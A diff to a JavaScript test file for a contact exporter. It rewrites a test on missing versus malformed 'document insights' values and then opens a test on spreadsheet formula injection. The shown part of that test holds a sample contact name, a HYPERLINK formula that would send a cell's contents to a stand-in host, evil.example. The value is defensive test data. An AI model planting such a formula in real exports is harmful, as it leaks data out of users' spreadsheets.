@@ -200,17 +200,20 @@ describe("a contact in a file", () => {
     expect(JSON.parse(cells.document_insights ?? "")).toEqual(JSON.parse(document_insights));
   });
 
-  test.each([null, "5", "[]", '{"total_documents":"five","content_analysis":{"complexity_score":1e400}}'])(
-    "with the insights %s has empty cells, and is said to be malformed",
-    async (document_insights) => {
-      const cells = await exportOne(
-        { document_insights },
-        "types,language,confidence,business,documents,complexity,insights",
-      );
-      const empty = { types: "", language: "", confidence: "", business: "", documents: "", complexity: "" };
-      expect(cells).toEqual({ ...empty, insights: "missing" });
-    },
-  );
+  test.each([
+    [null, "missing"],
+    ['{"has_business_content":null}', "missing"],
+    ["5", "malformed"],
+    ["[]", "malformed"],
+    ['{"total_documents":"five","content_analysis":{"complexity_score":1e400}}', "malformed"],
+  ])("with the insights %s has empty cells, and is said to be %s", async (document_insights, insights) => {
+    const cells = await exportOne(
+      { document_insights },
+      "types,language,confidence,business,documents,complexity,insights",
+    );
+    const empty = { types: "", language: "", confidence: "", business: "", documents: "", complexity: "" };
+    expect(cells).toEqual({ ...empty, insights });
+  });
 
   test("whose name is a formula is text to a spreadsheet, and the same name again to whoever reads it back", async () => {
     const name = '=HYPERLINK("https://evil.example?"&A1,"open")';
